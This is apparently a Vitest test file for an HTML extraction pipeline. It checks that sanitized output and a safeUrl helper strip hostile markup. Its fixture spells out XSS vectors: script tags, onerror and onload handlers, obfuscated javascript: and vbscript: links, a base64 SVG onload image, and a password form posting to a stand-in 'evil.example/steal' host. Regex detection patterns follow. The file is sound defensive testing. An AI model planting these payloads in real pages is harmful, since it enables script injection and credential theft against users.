import { describe, expect, it } from 'vitest';
import { extract } from '../../src/pipeline.js';
import { safeUrl } from '../../src/content/urls.js';
import { expectAllowlisted } from '../helpers/allowlist.js';

const PROSE = 'This paragraph is ordinary prose written for the test, long enough that every algorithm keeps it as the main content of the page.';

/** An article whose content holds every hostile construct we know, between ordinary paragraphs. */
const HOSTILE_ARTICLE = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Hostile</title>
<base href="https://example.org/articles/"></head><body><article>
<p>${PROSE}</p>
<script>alert('script')</script>
<style>body { background: url(javascript:alert(1)) }</style>
<p onclick="alert('click')" style="color:red">${PROSE} <img src="x.png" onerror="alert('onerror')" onload="alert(1)"></p>
<p>${PROSE} <a href="javascript:alert('link')">first</a> <a href=" JaVaScRiPt:alert(1)">second</a>
<a href="java&#x09;script:alert(1)">third</a> <a href="vbscript:msgbox(1)">fourth</a> <a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">fifth</a>
<a href="https://example.org/ok" onmouseover="alert(1)">good link</a></p>
<svg onload="alert('svg')"><script>alert('svg script')</script><a href="javascript:alert(1)"><text>svg text</text></a></svg>
<math><mtext><script>alert('math')</script></mtext></math>
<iframe src="https://evil.example/frame"></iframe><object data="evil.swf"></object><embed src="evil.swf">
<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>
<p>${PROSE} <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="inline svg"> <img src="javascript:alert(1)" alt="js image"></p>
<p>${PROSE} &lt;script&gt;alert('text')&lt;/script&gt; stays text.</p>
<blockquote cite="javascript:alert(1)"><p>${PROSE}</p></blockquote>
<p>${PROSE}</p>
</article></body></html>`;

describe('hostile markup never survives into contentHtml', () => {
  const page = extract(HOSTILE_ARTICLE, { url: 'https://example.org/articles/one.html' });
  const html = page.contentHtml;

  it('the content is there (the test would prove nothing on an empty result)', () => {
    expect(html.split('<p>').length - 1).toBeGreaterThanOrEqual(5);
    expect(html).toContain('<a href="https://example.org/ok">good link</a>');
  });

  it.each([
    ['<script', /<script/iu], ['<style', /<style/iu], ['<svg', /<svg/iu], ['<math', /<math/iu], ['<iframe', /<iframe/iu],
    ['<object', /<object/iu], ['<embed', /<embed/iu], ['<form', /<form/iu], ['<input', /<input/iu], ['<button', /<button/iu],
    ['event handlers', /\son[a-z]+\s*=/iu], ['style attributes', /\sstyle\s*=/iu], ['javascript: URLs', /javascript:/iu],
    ['vbscript: URLs', /vbscript:/iu], ['data: URLs', /data:/iu], ['svg text', /svg text/u],
  ])('no %s', (_, pattern) => {
    expect(html).not.toMatch(pattern);
  });

  it('text that spells a script stays escaped text', () => {
    expect(html).toContain('&lt;script&gt;alert(\'text\')&lt;/script&gt; stays text.');
  });

  it('links that lost their URL keep their words, as plain text', () => {
    for (const word of ['first', 'second', 'third', 'fourth', 'fifth']) expect(html).toMatch(new RegExp(`(?<!<a [^>]*>)${word}`, 'u'));
  });

  it('only the safe image is listed, resolved against <base href>', () => {
    expect(page.images).toEqual([{ src: 'https://example.org/articles/x.png', alt: null, caption: null }]);
  });

  it('every element and attribute written is on the allowlist', () => {
    expectAllowlisted(html);
  });

  it('a post keeps none of it either', () => {
    const posts = extract(`<html><body>${[1, 2, 3].map((n) => `<div class="post" id="p${n}"><a class="user" href="/u/${n}">user${n}</a> <span class="date">2020-01-0${n} 10:00</span>
<div class="body"><p>${PROSE} ${n} <a href="javascript:alert(1)">x</a> <img src="a.png" onerror="alert(1)"></p><script>alert(1)</script><svg><script>alert(2)</script></svg></div></div>`).join('\n')}</body></html>`);
    expect(posts.posts.length).toBe(3);
    for (const post of posts.posts) {
      expect(post.contentHtml).toContain(PROSE);
      expect(post.contentHtml).not.toMatch(/<script|<svg|\son[a-z]+=|javascript:/iu);
      expectAllowlisted(post.contentHtml);
    }
  });
});

describe('safeUrl', () => {
  it.each([
    ['/a/b', 'https://h.example/x/', 'link', 'https://h.example/a/b'],
    ['c.png', 'https://h.example/x/', 'image', 'https://h.example/x/c.png'],
    ['mailto:a@b.example', '', 'link', 'mailto:a@b.example'],
    ['mailto:a@b.example', '', 'image', null],
    ['javascript:alert(1)', '', 'link', null],
    ['  javascript:alert(1)', 'https://h.example/', 'link', null],
    ['java\tscript:alert(1)', 'https://h.example/', 'link', null],
    ['java\tscript:alert(1)', '', 'link', null],
    ['data:image/png;base64,AAAA', '', 'image', null],
    ['/relative/path', '', 'link', '/relative/path'],
    ['', 'https://h.example/', 'link', null],
  ] as const)('safeUrl(%j, %j, %s) = %j', (raw, base, use, expected) => {
    expect(safeUrl(raw, base, use)).toBe(expected);
  });
});
